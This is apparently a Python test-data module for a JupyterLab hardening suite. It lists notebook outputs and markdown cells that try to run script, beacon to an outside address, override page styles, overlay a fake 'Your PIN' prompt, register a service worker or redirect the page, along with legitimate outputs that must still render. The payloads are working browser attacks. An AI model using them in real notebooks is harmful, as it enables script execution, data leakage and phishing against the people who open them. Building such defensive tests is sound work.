"""What a notebook that somebody prepared tries in the browser of whoever opens or runs it, as data.

In a case's text ``$OUT`` is an address on another port, which only this case knows: a single byte sent there is a success of the attack.
``$JS`` is a script that fetches ``$OUT``, writes a file through the server's own interface and leaves a mark in the page; ``$RUN`` is
the same for use in an attribute; ``$MARK`` is the case's own name for what it puts into the page, and ``$MAIN`` the script that starts
JupyterLab. Each case is tried twice: as saved output of a notebook that is opened, and as output of a cell that
is run, which JupyterLab trusts.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Literal


@dataclass(frozen=True)
class Case:
    """One output, or one markdown cell.

    Parameters
    ----------
    name
        What is tried.
    text
        The content.
    mime
        Its media type; ``markdown cell`` for a cell of text.
    click
        CSS selector of what the person presses, if anything.
    outside
        Whether it succeeds in a stock JupyterLab, as saved output or when it is run.
    """

    name: str
    text: str
    mime: str = "text/html"
    click: str = ""
    outside: Literal["opened", "run", ""] = ""


CASES = (
    Case("a chart that reads and fills in fields of the page",
         '{"$schema":"https://vega.github.io/schema/vega/v5.json","width":9,"height":9,"marks":[],'
         '"signals":[{"name":"s","value":"","bind":{"element":"body","event":"x"},'
         '"on":[{"events":{"type":"timer","throttle":100},"update":"\'$MARK\'"}]}]}',
         "application/vnd.vega.v5+json", outside="opened"),
    Case("a frame with a script of the server in it", "<iframe name=$MARK srcdoc=\"<script src='$MAIN'></script>\"></iframe>", outside="run"),
    Case("a frame that asks for rights with such a script",
         "<iframe name=$MARK sandbox='allow-scripts allow-same-origin' srcdoc=\"<script src='$MAIN'></script>\"></iframe>", outside="run"),
    Case("styles for the whole page", "<style>body{--$MARK:1}</style>", outside="run"),
    Case("styles for the whole page under a condition", "<style>@media all{body{--$MARK:1}}</style>", outside="run"),
    Case("styles that leave the scope they are put in", "<style>}} body{--$MARK:1} @scope{</style>"),
    Case("styles that bring a scope", "<style>@scope{} @scope(body){:scope{--$MARK:1}}</style>", outside="run"),
    Case("styles in a picture in SVG", "<svg><style>body{--$MARK:1}</style></svg>", outside="run"),
    Case("a property of the whole page",
         "<style>@property --$MARK{syntax:'*';inherits:true;initial-value:1}</style>", outside="run"),
    Case("something laid over the page",
         "<style>*{contain:none!important;content-visibility:visible!important;z-index:auto!important}</style>"
         "<div id=$MARK style='position:fixed;inset:0;z-index:9!important'>Your PIN</div>"),
    Case("something shown above everything",
         "<button class=press popovertarget=$MARK>Show</button><p popover=manual id=$MARK>Your PIN</p>", click="button.press", outside="run"),
    Case("a script", "<script>$JS</script>", outside="run"),
    Case("a script from elsewhere", "<script src='$OUT/x.js'></script>", outside="run"),
    Case("a module from elsewhere", "<script type=module>import '$OUT/x.js'</script>", outside="run"),
    Case("a script of the server's own files", "<script src='$API/api/contents/shared/planted.js?type=file'></script>"),
    Case("a script in an error of a picture", "<img src=x onerror=\"$RUN\">", outside="run"),
    Case("a script in a detail that opens", "<details open ontoggle=\"$RUN\"><summary>x</summary></details>", outside="run"),
    Case("a script in a style's end", "<style>@keyframes k{}</style><b style='animation: k .01s' onanimationend=\"$RUN\">x</b>", outside="run"),
    Case("a script in a focus", "<input autofocus onfocus=\"$RUN\">"),
    Case("a script in a picture in SVG", "<svg><image href=x onerror=\"$RUN\"/></svg>", outside="run"),
    Case("a script in SVG", "<svg xmlns='http://www.w3.org/2000/svg' onload=\"$RUN\"><script>$JS</script></svg>", "image/svg+xml"),
    Case("a picture from elsewhere in SVG", "<svg xmlns='http://www.w3.org/2000/svg'><image href='$OUT/x.png'/></svg>", "image/svg+xml"),
    Case("JavaScript", "$JS", "application/javascript", outside="run"),
    Case("JavaScript under its old name", "$JS", "text/javascript", outside="run"),
    Case("a picture from elsewhere", "<img src='$OUT/x.png'>", outside="opened"),
    Case("a choice of pictures from elsewhere", "<img srcset='$OUT/x.png 1x'>", outside="run"),
    Case("a picture from elsewhere in text", "![x]($OUT/x.png)", "text/markdown", outside="opened"),
    Case("a picture from elsewhere in a cell of text", "![x]($OUT/x.png)", "markdown cell", outside="opened"),
    Case("a picture in a cell of text in HTML", "<img src='$OUT/x.png'>", "markdown cell", outside="opened"),
    Case("a film from elsewhere", "<video autoplay muted src='$OUT/x.mp4' poster='$OUT/x.png'></video>", outside="opened"),
    Case("a sound from elsewhere", "<audio preload=auto src='$OUT/x.mp3'></audio>", outside="opened"),
    Case("a style from elsewhere", "<link rel=stylesheet href='$OUT/x.css'>", outside="run"),
    Case("a style that imports", "<style>@import url('$OUT/x.css');</style>", outside="run"),
    Case("a style with a picture", "<style>.leak{background:url('$OUT/x.png')}</style><p class=leak>x</p>", outside="run"),
    Case("a style of one element with a picture", "<p style=\"background:url('$OUT/x.png')\">x</p>", outside="run"),
    Case("a font from elsewhere", "<style>@font-face{font-family:f;src:url('$OUT/x.woff')}</style><p style='font-family:f'>x</p>", outside="run"),
    Case("a frame from elsewhere", "<iframe src='$OUT/x.html'></iframe>", outside="run"),
    Case("a frame with a script in it", "<iframe srcdoc='<script>parent.document;$JS</script>'></iframe>"),
    Case("a frame with a link for an address", "<iframe src=\"javascript:$RUN\"></iframe>", outside="run"),
    Case("a frame of data", "<iframe src=\"data:text/html,<img src='$OUT/x.png'>\"></iframe>", outside="run"),
    Case("an object from elsewhere", "<object data='$OUT/x.html'></object>", outside="run"),
    Case("an embedded document from elsewhere", "<embed src='$OUT/x.html'>", outside="run"),
    Case("a hint to fetch beforehand", "<link rel=prefetch href='$OUT/x.png'>", outside="run"),
    Case("a hint to load beforehand", "<link rel=preload as=image href='$OUT/x.png'>", outside="run"),
    Case("a hint to load a module beforehand", "<link rel=modulepreload href='$OUT/x.js'>", outside="run"),
    Case("rules for fetching beforehand", "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"$OUT/x\"]}]}</script>"),
    Case("an icon from elsewhere", "<link rel=icon href='$OUT/x.ico'>"),
    Case("another base for addresses", "<base href='$OUT/'><img src='relative.png'>", outside="run"),
    Case("a link that is a script", "<a class=press href=\"javascript:$RUN\">Show</a>", click="a.press"),
    Case("a link that is a document of data", "<a class=press href=\"data:text/html,<script>$JS</script>\">Show</a>", click="a.press"),
    Case("a link that tells elsewhere", "<a class=press href='#x' ping='$OUT/x'>Show</a>", click="a.press"),
    Case("a link in a formula", "$\\href{javascript:$RUN}{\\text{Show}}$", "text/latex"),
    Case("a picture in a formula", "$\\style{background:url($OUT/x.png)}{x}$", "text/latex"),
    Case("a diagram with a script", "```mermaid\nflowchart LR\n A[\"<img src='$OUT/x.png' onerror='$RUN'>\"]\n```", "markdown cell"),
    Case("a worker of the whole server",
         "<script>navigator.serviceWorker.register('$API/api/contents/shared/planted.js');$JS</script>", outside="run"),
    Case("another window", "<script>window.open('$OUT/x');$JS</script>", outside="run"),
    Case("a chart with data from elsewhere",
         '{"$schema":"https://vega.github.io/schema/vega-lite/v5.json","data":{"url":"$OUT/x.json"},"mark":"point","encoding":{}}',
         "application/vnd.vegalite.v5+json", outside="run"),
    Case("a chart with a picture from elsewhere",
         '{"$schema":"https://vega.github.io/schema/vega-lite/v5.json","data":{"values":[{"a":1}]},"mark":{"type":"image","url":"$OUT/x.png"},"encoding":{"x":{"field":"a"}}}',
         "application/vnd.vegalite.v5+json", outside="run"),
    Case("a button that runs a command",
         "<button class=press data-commandlinker-command='docmanager:new-untitled' "
         "data-commandlinker-args='{\"path\": \"shared\", \"type\": \"file\", \"ext\": \".$MARK\"}'>Show</button>", "markdown cell", "button.press"),
)  # fmt: skip

WIDGETS = (
    Case("a picture from elsewhere in a widget", "<img src='$OUT/x.png'>"),
    Case("a script in a widget", '<img src=x onerror="$RUN">'),
)
"""Values of an HTML widget."""

LEAVING = (
    Case("to lead the whole page elsewhere", "<meta http-equiv=refresh content='0;url=$OUT/away'>", outside="run"),
    Case("a form that is sent elsewhere", "<form action='$OUT/x'><button class=press>Show</button></form>", click="button.press", outside="run"),
)
"""Each on a page of its own: it ends it."""

FILES = {
    "shared/overrides.json": '{"@jupyterlab/apputils-extension:themes": {"theme": "JupyterLab Dark"}}',
    "shared/page_config.json": '{"disabledExtensions": {"jupyter-cbs": true}}',
    "shared/jupyter_config.json": '{"LabApp": {"lock_all_plugins": false}}',
    "shared/planted.js": "window.hits = (window.hits || []).concat('planted');",
}
"""Files that would change JupyterLab elsewhere."""

CIRCLE = "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><circle r='4'/></svg>"
LEGITIMATE = {
    "%matplotlib inline\nimport matplotlib.pyplot as plt\nplt.plot([1, 3, 2])\nplt.show()": ".jp-RenderedImage img",
    "import pandas as pd\npd.DataFrame({'a': [1, 2]})": "table.dataframe",
    "import plotly.graph_objects as go\ngo.Figure(go.Bar(y=[1, 2]))": ".js-plotly-plot .main-svg",
    "import ipywidgets\nipywidgets.IntSlider(3)": ".jupyter-widgets .noUi-handle",
    "from IPython.display import Markdown\nMarkdown('$x^2$ and **bold**')": ".jp-RenderedMarkdown strong",
    f"from IPython.display import SVG\nSVG({CIRCLE!r})": ".jp-RenderedSVG img",
    "from IPython.display import HTML\nHTML('<style>@media all{#own{display:block!important}}</style><p id=own style=display:none>x</p>')": "#own",
}
"""What must still be shown: cell → selector of what it shows."""
